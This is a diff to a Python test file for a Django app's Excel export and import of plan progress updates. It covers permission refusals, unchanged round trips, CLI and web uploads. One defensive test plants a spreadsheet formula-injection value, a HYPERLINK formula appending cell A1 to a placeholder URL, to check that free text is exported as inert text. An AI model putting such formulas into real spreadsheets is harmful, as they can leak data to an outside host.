@@ -69,7 +69,7 @@ def test_round_trip_creates_and_changes_updates(world):
     "bad, message",
     [
         ({"Status": "Sideways"}, "Status “Sideways” is not one of"),
-        ({"Percent complete": 140}, "from 0 to 100"),
+        ({"Percent complete": 140}, "between 0 and 100"),
         ({"Percent complete": "lots"}, "is not a number"),
         ({"Period": "2001-01"}, "not open"),
         ({"Ref": "9z"}, "no action 9z"),
@@ -92,7 +92,9 @@ def test_rows_for_another_organisation_are_refused_for_a_lead(world):
     _fill(ws, 2, Status="On track")
     _fill(ws, 3, Status="On track")
     result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(wb))
-    assert result.errors == ["Row 3: you cannot write updates for action 1b"]
+    assert result.errors == [
+        "Row 3: you cannot write updates for action 1b: leave its row as exported or clear it"
+    ]
     assert not Update.objects.exists()
 
 
@@ -144,3 +146,130 @@ def test_cli_round_trip(world, tmp_path):
     out = io.StringIO()
     call_command("tracker", "import", str(path), "--plan", world.plan.slug, "--user", "lead", stdout=out)
     assert "1 updates added" in out.getvalue()
+
+
+def _state():
+    from django.core import serializers
+
+    return serializers.serialize("json", [*Update.objects.order_by("pk"), *AuditEntry.objects.order_by("pk")])
+
+
+@pytest.fixture
+def written(world):
+    """A submitted update of the council's action (with web line endings) and an approved one of the ICB's."""
+    key = services.current_month_key()
+    own = services.update_create(
+        user=world.users["lead"], action=world.own, period_key=key, status="at_risk", percent_complete=40,
+        narrative="Line one\r\nLine two", risks="- staff\n- money", submit=True,
+    )  # fmt: skip
+    other = services.update_create(
+        user=world.users["icb_lead"], action=world.other, period_key=key, status="on_track", submit=True
+    )
+    other = services.update_approve(user=world.users["manager"], update=other)
+    return {"own": own, "other": other}
+
+
+@pytest.mark.parametrize("who", ["lead", "contributor", "manager", "viewer", "icb_lead"])
+def test_importing_an_unchanged_export_changes_nothing(world, written, who):
+    before = _state()
+    result = excel.import_updates(user=world.users[who], plan=world.plan, file=_save(_export(world, who)))
+    assert result.errors == []
+    assert (result.created, result.changed, result.unchanged) == (0, 0, 2)
+    assert _state() == before
+
+
+def test_unchanged_export_of_a_plan_without_updates_imports_nothing(world):
+    result = excel.import_updates(user=world.users["manager"], plan=world.plan, file=_save(_export(world)))
+    assert result.errors == [] and (result.created, result.changed, result.unchanged) == (0, 0, 0)
+    assert not Update.objects.exists()
+
+
+def test_changing_one_allowed_row_writes_exactly_that_update(world, written):
+    wb = _export(world, "lead")
+    _fill(wb[excel.SHEET], 2, **{"Next steps": "Recruit two officers"})
+    approved_before = Update.objects.get(pk=written["other"].pk).version
+    result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(wb))
+    assert result.errors == [] and (result.created, result.changed, result.unchanged) == (0, 1, 1)
+    own = Update.objects.get(pk=written["own"].pk)
+    assert own.next_steps == "Recruit two officers" and own.version == written["own"].version + 1
+    assert own.narrative.replace("\r\n", "\n") == "Line one\nLine two" and own.status == "at_risk"
+    assert Update.objects.get(pk=written["other"].pk).version == approved_before
+    assert AuditEntry.objects.filter(source="import").count() == 1
+
+
+@pytest.mark.parametrize(
+    "who, row, change, message",
+    [
+        ("lead", 3, {"Progress": "Sneaky"}, "Row 3: you cannot write updates for action 1b"),
+        ("contributor", 3, {"Status": "Off track"}, "Row 3: you cannot write updates for action 1b"),
+        ("manager", 3, {"Percent complete": 90}, "Row 3: the "),
+        ("icb_lead", 2, {"Risks and issues": ""}, "Row 2: you cannot write updates for action 1a"),
+    ],
+)
+def test_a_forbidden_change_is_refused_and_nothing_is_written(world, written, who, row, change, message):
+    wb = _export(world, who)
+    if who != "icb_lead":  # beside an allowed change, which is not imported either
+        _fill(wb[excel.SHEET], 2, **{"Progress": "An allowed change"})
+    _fill(wb[excel.SHEET], row, **change)
+    before = _state()
+    result = excel.import_updates(user=world.users[who], plan=world.plan, file=_save(wb))
+    assert len(result.errors) == 1 and result.errors[0].startswith(message), result.errors
+    if who == "manager":
+        assert "approved and locked" in result.errors[0]
+    assert _state() == before
+
+
+def test_free_text_is_exported_as_text_and_read_back_unchanged(world):
+    from sendplan.plans.models import ActionItem
+
+    ActionItem.objects.filter(action=world.own, section="what").update(text="=1+1 and more")
+    formula = '=HYPERLINK("http://x/?"&A1,"Click")'
+    update = services.update_create(
+        user=world.users["lead"], action=world.own, period_key=services.current_month_key(), status="on_track",
+        narrative=formula, risks="+44 risk", next_steps="@here\tthen",
+    )  # fmt: skip
+    ws = _export(world)[excel.SHEET]
+    cells = {
+        name: ws.cell(row=2, column=_column(ws, name)) for name in ["Action", "Progress", "Risks and issues"]
+    }
+    assert [c.data_type for c in cells.values()] == ["s", "s", "s"]
+    assert cells["Progress"].value == formula and cells["Action"].value == "=1+1 and more"
+    assert cells["Progress"].quotePrefix and cells["Risks and issues"].quotePrefix
+    result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(ws.parent))
+    assert result.errors == [] and result.unchanged == 1 and result.changed == 0
+    _fill(ws, 2, Status="Complete")
+    _plain = excel._plain_text  # the edited sheet keeps its text cells as text
+    for cell in ws[2]:
+        _plain(cell)
+    result = excel.import_updates(user=world.users["lead"], plan=world.plan, file=_save(ws.parent))
+    assert result.errors == [] and result.changed == 1
+    update.refresh_from_db()
+    assert (update.narrative, update.risks, update.next_steps) == (formula, "+44 risk", "@here\tthen")
+
+
+@pytest.mark.parametrize("subcommand", ["export", "import"])
+def test_cli_unusable_path_is_a_one_line_error(world, tmp_path, subcommand):
+    path = tmp_path / "missing-dir" / "t.xlsx" if subcommand == "export" else tmp_path
+    with pytest.raises(UsageError, match=str(path.parent if subcommand == "export" else path)):
+        call_command("tracker", subcommand, str(path), "--plan", world.plan.slug, "--user", "lead")
+
+
+def test_cli_unchanged_round_trip_reports_nothing_changed(world, written, tmp_path):
+    path = tmp_path / "t.xlsx"
+    args = [str(path), "--plan", world.plan.slug, "--user", "lead"]
+    call_command("tracker", "export", *args, stdout=io.StringIO())
+    out = io.StringIO()
+    call_command("tracker", "import", *args, stdout=out)
+    assert out.getvalue().strip() == "0 updates added, 0 changed, 2 unchanged"
+
+
+def test_web_import_of_an_unchanged_download_changes_nothing(client, world, written):
+    client.force_login(world.users["manager"])
+    response = client.get(reverse("delivery:tracker-export", args=[world.plan.slug]))
+    before = _state()
+    upload = SimpleUploadedFile("t.xlsx", b"".join(response.streaming_content))
+    response = client.post(
+        reverse("delivery:tracker-import", args=[world.plan.slug]), {"file": upload}, follow=True
+    )
+    assert "0 updates added, 0 changed, 2 unchanged" in response.content.decode()
+    assert _state() == before
